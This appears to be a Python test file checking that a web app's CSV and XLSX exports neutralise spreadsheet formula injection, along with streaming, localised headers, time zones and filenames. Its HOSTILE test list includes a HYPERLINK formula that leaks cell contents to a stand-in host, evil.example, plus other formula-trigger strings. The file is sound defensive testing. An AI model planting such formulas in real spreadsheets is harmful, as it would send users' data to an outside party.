"""One renderer for every table twin: CSV (BOM, CRLF, names in the reader's language, streamed)
and XLSX, with every cell that a spreadsheet would run as a formula written as text. The real
exports are tested as the attack in ``tests/governance/test_csv_safety.py`` and
``tests/accountability/test_xlsx_safety.py``."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from citygrowth.web.render import (
    Column,
    column_keys,
    columns,
    csv_lines,
    disposition,
    xlsx_bytes,
)

#: cells a spreadsheet would run as formulas (OWASP's list of first characters)
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+2", "-3+4", "@SUM(A1)",
           "\tTab", "\rCR"]
SHANGHAI = ZoneInfo("Asia/Shanghai")


def _csv(rows: list[list[object]], locale: str = "en") -> str:
    cols = columns("name", "value", Column("when", "Reported at"))
    return b"".join(csv_lines(cols, rows, locale, SHANGHAI)).decode("utf-8")


def test_csv_has_bom_crlf_names_in_the_readers_language_and_text_only_cells() -> None:
    when = dt.datetime(2026, 5, 1, 1, 30, tzinfo=dt.UTC)
    out = _csv([[h, -5, when] for h in HOSTILE])
    assert out.startswith("\ufeffName,Value,Reported at\r\n")
    parsed = list(csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")))
    assert [r[0] for r in parsed[1:]] == ["'" + h for h in HOSTILE]
    assert {r[1] for r in parsed[1:]} == {"-5"}  # a negative number is a number, not a formula
    assert parsed[1][2] == "2026-05-01T09:30:00+08:00"  # in the district's zone
    assert _csv([], "zh_CN").startswith("\ufeff名称,数值,上报时间\r\n")


def test_csv_is_streamed_in_pieces_from_a_generator() -> None:
    def rows() -> Iterator[list[object]]:
        for i in range(1200):
            yield [f"row {i}", i, None]

    pieces = list(csv_lines(columns("name", "value", "when"), rows(), "en", batch=500))
    assert len(pieces) == 4  # header, 500, 500, 200
    assert b"".join(pieces).count(b"\r\n") == 1201


def test_xlsx_cells_that_look_like_formulas_are_strings_with_a_quote_prefix() -> None:
    body = xlsx_bytes(columns("name", "value"), [[h, -5] for h in HOSTILE] + [["a\x00b", 1.5]],
                      "t", "zh_CN")
    ws = load_workbook(io.BytesIO(body)).worksheets[0]
    assert [c.value for c in ws[1]] == ["名称", "数值"]
    for row, hostile in zip(ws.iter_rows(min_row=2), HOSTILE, strict=False):
        assert row[0].value == hostile and row[0].data_type == "s" and row[0].quotePrefix
        assert row[1].value == -5 and row[1].data_type == "n"
    assert ws.cell(8, 1).value == "a\ufffdb"  # a NUL cannot break the export


def test_download_names_and_reading_names_back() -> None:
    assert disposition("cases", "csv") == 'attachment; filename="cases.csv"'
    assert disposition("目标", "xlsx") == (
        "attachment; filename=\"export.xlsx\"; filename*=UTF-8''%E7%9B%AE%E6%A0%87.xlsx")
    assert column_keys(["代码", "Name (English)", "code", "other"],
                       ["code", "name_en"]) == ["code", "name_en", "code", "other"]
